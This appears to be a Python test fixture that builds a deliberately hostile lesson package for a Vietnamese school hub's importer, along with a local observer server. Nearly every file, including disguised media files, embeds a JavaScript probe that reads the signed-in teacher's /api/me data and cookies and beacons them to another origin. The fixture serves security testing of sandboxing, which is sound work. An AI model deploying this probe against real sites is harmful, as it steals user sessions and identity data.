"""A hostile lesson package: a file of every type the importer takes, each trying to act as the hub.

Every file that a browser could run as a page carries the same probe: it fetches ``/api/me``
(the signed-in teacher's name on the hub's origin), tries to read the page around it and the
cookies, and reports what it got to an observer on another port (``GET /r?<report>``), where
the test reads it. Media files hold an HTML page with the probe too: if a browser ever sniffed
one as HTML, it would run. The observer also serves the same bytes from its own origin with
no sandbox, to show that each probe file really is active content.
"""

from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from aiohttp import web

LESSON_ID = "thu-bao-mat"
TEACHER = "co-lan"

# Runs the probe as soon as it is read; `extra()` (when a page defines one) adds what it checks.
_PROBE = (
    "async function probe(tag, extra) {"
    " let me; try { const r = await fetch('/api/me', {credentials: 'include'});"
    " me = 'me:' + r.status + ':' + (await r.text()).slice(0, 200); } catch (e) { me = 'me:refused:' + e.name; }"
    " let top; try { top = 'top:' + window.top.document.title; } catch (e) { top = 'top:denied'; }"
    " let cookie; try { cookie = 'cookie:' + document.cookie; } catch (e) { cookie = 'cookie:denied'; }"
    " const line = [tag, window === window.top ? 'tab' : 'frame', me, top, cookie, extra ? extra() : ''].join('|');"
    " new Image().src = 'http://127.0.0.1:PORT/r?' + encodeURIComponent(line); }"
)


def _script(tag: str, port: int, *, on_load: bool = False, extra: str = "") -> str:
    call = f"probe({json.dumps(tag)}, {extra or 'null'})"
    body = _PROBE.replace("PORT", str(port)) + (f" addEventListener('load', () => {call});" if on_load else f" {call};")
    return body


def _page(tag: str, port: int) -> bytes:
    return f"<!doctype html><title>{tag}</title><p>{tag}</p><script>{_script(tag, port)}</script>".encode()


def _png(width: int = 8, height: int = 8) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\x20\x80\xc0" * width for _ in range(height))
    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


PDF = b"""%PDF-1.1
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length 44>>stream
BT /F1 24 Tf 20 60 Td (Trang PDF) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""

# Files whose probe runs when served without a sandbox (the observer shows it), with the probe's tag.
ACTIVE = {"index.html": "html", "page.htm": "htm", "page.xhtml": "xhtml", "pic.svg": "svg", "page.xml": "xml",
          "trick.xsl": "xsl"}  # fmt: skip


def package_files(port: int) -> dict[str, bytes]:
    """Every file of the package (``lesson.json`` apart), by path."""
    index_extra = (
        "() => 'css:' + getComputedStyle(document.body).backgroundColor"
        " + ' img:' + document.getElementById('pic').naturalWidth + ' js:' + (window.appLoaded === true)"
    )
    xhtml = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{tag}</title>'
        "</head><body><p>{tag}</p><script>{script}</script></body></html>"
    )
    return {
        "index.html": (
            '<!doctype html><html><head><meta charset="utf-8"><title>html</title>'
            '<link rel="stylesheet" href="style.css"><script src="app.js"></script></head>'
            f'<body><h1>Trang HTML</h1><img id="pic" src="pic.png" alt=""><script>'
            f"{_script('html', port, on_load=True, extra=index_extra)}</script></body></html>"
        ).encode(),
        "page.htm": _page("htm", port),
        "page.xhtml": xhtml.format(tag="xhtml", script=_script("xhtml", port)).encode(),
        "page.xml": xhtml.format(tag="xml", script=_script("xml", port)).encode(),
        "trick.xsl": xhtml.format(tag="xsl", script=_script("xsl", port)).encode(),
        "transform.xml": b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="style.xsl"?>\n<lesson/>',
        "style.xsl": (
            '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
            ' xmlns="http://www.w3.org/1999/xhtml"><xsl:template match="/"><html><head><title>xslt</title></head>'
            f"<body><script>{_script('xslt', port)}</script></body></html></xsl:template></xsl:stylesheet>"
        ).encode(),
        "pic.svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 9"><title>svg</title>'
            f'<rect width="16" height="9" fill="teal"/><script>{_script("svg", port)}</script></svg>'
        ).encode(),
        "app.js": f"window.appLoaded = true; {_script('js', port)}".encode(),
        "style.css": b"body { background-color: rgb(1, 2, 3); }",
        "data.json": json.dumps({"html": f"<script>{_script('json', port)}</script>"}).encode(),
        "notes.txt": f"<html><script>{_script('txt', port)}</script></html>".encode(),
        "readme.md": f"# Ghi chú\n\n<script>{_script('md', port)}</script>\n".encode(),
        "pic.png": _png(),
        "doc.pdf": PDF,
        "fake.png": _page("png", port),
        "fake.pdf": _page("pdf", port),
        "clip.mp4": _page("mp4", port),
        "tune.mp3": _page("mp3", port),
        "font.woff2": _page("woff2", port),
        "captions.vtt": b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + _page("vtt", port),
        "payload.xyz": _page("xyz", port),
        "noextension": _page("noext", port),
    }


MANIFEST: dict[str, Any] = {
    "id": LESSON_ID,
    "title": "Bài kiểm tra bảo mật",
    "subject": "informatics",
    "grade": 7,  # the class it is launched into is grade 7
    "language": "vi",
    "authors": ["Nhóm kiểm thử"],
    "version": "1.0",
    "steps": [
        {"id": "html", "kind": "slide", "html": "index.html"},
        {"id": "svg", "kind": "slide", "image": "pic.svg"},
        {"id": "pdf", "kind": "slide", "pdf": "doc.pdf", "page": 1},
        {"id": "video", "kind": "video", "file": "clip.mp4", "captions": "captions.vtt"},
        {"id": "cau-1", "kind": "quiz", "type": "single_choice", "prompt": "Hình nào?", "image": "pic.png",
         "choices": [{"id": "a", "text": "Một"}, {"id": "b", "text": "Hai"}], "correct": ["a"]},
    ],
}  # fmt: skip


def write_package(folder: Path, port: int) -> Path:
    folder.mkdir(parents=True)
    (folder / "lesson.json").write_text(json.dumps(MANIFEST, ensure_ascii=False), encoding="utf-8")
    for name, data in package_files(port).items():
        (folder / name).write_bytes(data)
    return folder


class Observer:
    """Where the probes report (``/r``), and the package's files from another origin, unsandboxed."""

    def __init__(self, types: dict[str, str]) -> None:
        self.reports: list[str] = []
        self.files: dict[str, bytes] = {}
        self._types = types
        self._runner: web.AppRunner | None = None
        self.port = 0

    async def start(self) -> None:
        app = web.Application()
        app.router.add_get("/r", self._report)
        app.router.add_get("/files/{name}", self._file)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = self._runner.addresses[0][1]

    async def close(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()

    def of(self, tag: str, where: str | None = None) -> list[str]:
        """The reports of the probe ``tag``; ``where`` "tab" or "frame" for those only."""
        return [r for r in self.reports if r.split("|")[0] == tag and where in (None, r.split("|")[1])]

    async def _report(self, request: web.Request) -> web.Response:
        self.reports.append(unquote(request.query_string))
        return web.Response(status=204)

    async def _file(self, request: web.Request) -> web.Response:
        name = request.match_info["name"]
        return web.Response(body=self.files[name], headers={"Content-Type": self._types[name]})
